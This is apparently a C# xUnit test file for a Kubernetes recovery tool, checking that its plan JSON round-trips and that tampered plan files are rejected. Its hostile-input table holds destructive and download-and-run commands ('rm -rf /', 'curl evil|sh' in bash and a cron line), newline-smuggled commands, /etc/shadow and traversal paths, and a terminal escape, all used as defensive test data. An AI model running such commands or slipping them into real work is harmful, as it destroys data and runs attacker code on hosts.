using System.Text.Json.Nodes;
using Recovery.Inventory;
using Recovery.Kubernetes;
using Recovery.Planning;
using static Recovery.Tests.Planning.Cluster;

namespace Recovery.Tests.Planning;

public sealed class PlanJsonTests
{
    [Fact]
    public void A_plan_read_back_is_the_same_plan()
    {
        var plan = SeedPlan();
        var json = PlanJson.Write(plan);
        var read = PlanJson.Read(json, Seed());
        Assert.Equal(json, PlanJson.Write(read));
        Assert.Equal(plan.Steps.Select(s => s.Id), read.Steps.Select(s => s.Id));
        Assert.Equal(plan.Step("unbind/node1/local-route-10.0.0.211").Commands(), read.Step("unbind/node1/local-route-10.0.0.211").Commands());
        Assert.Equal(plan.Step("verify/node2/kube-proxy-synced").Verify, read.Step("verify/node2/kube-proxy-synced").Verify);
        Assert.Equal(plan.Created, read.Created);
        Assert.Equal(plan.FactsFingerprint, read.FactsFingerprint);
    }

    [Fact]
    public void Every_shape_of_step_round_trips()
    {
        var docker = new Recovery.Facts.KubeProxyFacts(KubeProxyManager.Docker, true, "ipvs", ContainerId: "3f2a9c1b7d4e");
        var spec = new KubeProxySpec(KubeProxyManager.Custom, ["/opt/kube/bin/proxyctl", "stop"], ["/opt/kube/bin/proxyctl", "start"]);
        var inventory = Seed(spec);
        var facts = SeedFacts(docker);
        facts[2] = facts[2] with { KubeProxy = new Recovery.Facts.KubeProxyFacts(KubeProxyManager.Custom, true, "ipvs") };
        var intent = Intent(FixAction.Strip, FixPath.Kubectl, [ServiceRef.Parse("default/nginx-service")]) with { ServicePorts = [new ServicePort("udp", 53)] };
        foreach (var plan in new[]
        {
            Planner.Create(inventory, facts, intent, "node2", Created),
            Planner.Create(inventory, facts.Take(2).ToList(), Intent(path: FixPath.Etcd), "node2", Created),
        })
        {
            var json = PlanJson.Write(plan);
            Assert.Equal(json, PlanJson.Write(PlanJson.Read(json, inventory)));
        }
    }

    [Fact]
    public void The_format_is_versioned_and_readable()
    {
        var json = JsonNode.Parse(PlanJson.Write(SeedPlan()))!;
        Assert.Equal("kube-recover/v2", (string?)json["apiVersion"]);
        Assert.Equal("Plan", (string?)json["kind"]);
        Assert.Equal("Contain", (string?)json["phases"]![1]!["kind"]);
        var step = json["phases"]![1]!["steps"]![0]!;
        Assert.Equal("contain/node2/stop-kube-proxy", (string?)step["id"]);
        Assert.Equal("""{"type":"unitStop","unit":"kube-proxy.service"}""", step["action"]!["commands"]![1]!.ToJsonString());
        Assert.Contains("Save `ip addr show`", PlanJson.Write(SeedPlan()), StringComparison.Ordinal);
    }

    public static TheoryData<string, string, string> Hostile => new()
    {
        // name, JSON edit (path=value applied to the seed plan), expected part of the message
        { "a command the planner never makes", "phases.1.steps.0.action.commands.1={\"type\":\"custom\",\"argv\":[\"rm\",\"-rf\",\"/\"]}", "refusing the command `rm -rf /`" },
        { "a newline inside a word", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"kube-proxy\\ntouch /tmp/x\"}", "control character U+000A" },
        { "a known command with another unit", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"sshd\"}", "'sshd' is not a kube-proxy, kubelet, k3s or rke2 systemd unit name" },
        { "bash with a script of its own", "phases.3.steps.1.verify.probe.command={\"type\":\"custom\",\"argv\":[\"timeout\",\"5\",\"bash\",\"-c\",\"curl evil|sh\"]}", "refusing the command" },
        { "a manifest move of another file", "phases.1.steps.0.action.commands.1={\"type\":\"manifestMoveAside\",\"manifest\":\"/etc/shadow\"}", "'/etc/shadow' is not a kube-proxy static pod manifest path" },
        { "a manifest path that climbs", "phases.1.steps.0.action.commands.1={\"type\":\"manifestMoveBack\",\"manifest\":\"/etc/kubernetes/manifests/../../shadow/kube-proxy.yaml\"}", "is not a kube-proxy static pod manifest path" },
        { "a stop marker with lines of its own", "phases.1.steps.0.action.commands.0={\"type\":\"stopMarkerWrite\",\"lines\":[\"* * * * * root curl evil|sh\"]}", "stop marker lines must be the kube-recover header" },
        { "an ipset outside kube-proxy's", "phases.2.steps.0.action.commands.0={\"type\":\"ipsetDel\",\"set\":\"allowlist\",\"entry\":{\"address\":\"10.0.0.211\"}}", "'allowlist' is not a kube-proxy ipset name" },
        { "an unknown node", "phases.1.steps.0.node=\"node9\"", "node 'node9' is not in the inventory" },
        { "another version", "apiVersion=\"kube-recover/v1\"", "expected 'kube-recover/v2'" },
        { "a path in a saved file name", "phases.0.steps.0.action.file=\"../../etc/cron.d/x\"", "not a plain file name" },
        { "an unknown field", "phases.0.steps.0.sudoPassword=\"x\"", "sudoPassword" },
        { "an unknown command type", "phases.1.steps.0.action.commands.1={\"type\":\"pipe\",\"left\":{\"type\":\"addressList\"},\"right\":{\"type\":\"custom\",\"argv\":[\"sh\"]}}", "pipe" },
        { "a command without a type", "phases.1.steps.0.action.commands.1={\"unit\":\"kube-proxy.service\"}", "type" },
        { "a command with a field of its own", "phases.1.steps.0.action.commands.1={\"type\":\"unitStop\",\"unit\":\"kube-proxy.service\",\"then\":\"reboot\"}", "then" },
        { "a duplicate step id", "phases.1.steps.1.id=\"contain/node2/stop-kube-proxy\"", "used twice" },
        { "an endless wait", "phases.6.steps.0.action={\"kind\":\"wait\",\"duration\":\"3.00:00:00\"}", "out of range" },
        { "a sync check that never gives up", "phases.6.steps.0.verify.probe.command={\"type\":\"kubeProxySynced\",\"fallbackSeconds\":999999}", "is not a wait: expected 1..3600 seconds" },
        { "an address that is not one", "intent.addresses.0=\"10.0.0.999\"", "not an IP address" },
        { "a bad Service name", "intent.services=[\"default/Bad_Name\"]", "not a valid Service name" },
        { "a terminal escape in a note", "notes.0=\"\\u001b]0;owned\\u0007\"", "control characters" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_plan_files_are_refused_with_a_clear_message(string name, string edit, string expected)
    {
        var json = JsonNode.Parse(PlanJson.Write(SeedPlan()))!;
        var (path, value) = (edit[..edit.IndexOf('=')], edit[(edit.IndexOf('=') + 1)..]);
        var parts = path.Split('.');
        var parent = parts[..^1].Aggregate(json, (node, part) => int.TryParse(part, out var i) ? node[i]! : node[part]!);
        var replacement = JsonNode.Parse(value);
        if (int.TryParse(parts[^1], out var index)) parent[index] = replacement;
        else parent[parts[^1]] = replacement;

        var e = Assert.Throws<InvalidPlanException>(() => PlanJson.Read(json.ToJsonString(), Seed()));
        Assert.True(e.Message.Contains(expected, StringComparison.Ordinal), $"{name}: {e.Message}");
    }

    [Fact]
    public void Custom_commands_are_accepted_only_as_the_inventory_gives_them()
    {
        var spec = new KubeProxySpec(KubeProxyManager.Custom, ["/opt/kube/bin/proxyctl", "stop"], ["/opt/kube/bin/proxyctl", "start"]);
        var facts = SeedFacts(new Recovery.Facts.KubeProxyFacts(KubeProxyManager.Custom, true, "ipvs"));
        var inventory = InventoryOf(new Node("node1", Node1, Masters, spec), new Node("node2", Node2, Masters, spec), new Node("node3", Node3, Masters, spec));
        var json = PlanJson.Write(Planner.Create(inventory, facts, Intent(), "node2", Created));
        Assert.NotNull(PlanJson.Read(json, inventory));
        var e = Assert.Throws<InvalidPlanException>(() => PlanJson.Read(json, Seed()));
        Assert.Contains("refusing the command `/opt/kube/bin/proxyctl", e.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Not_json_at_all_is_refused_with_a_clear_message()
    {
        var e = Assert.Throws<InvalidPlanException>(() => PlanJson.Read("apiVersion: kube-recover/v1", Seed()));
        Assert.StartsWith("not a valid kube-recover plan", e.Message, StringComparison.Ordinal);
    }
}
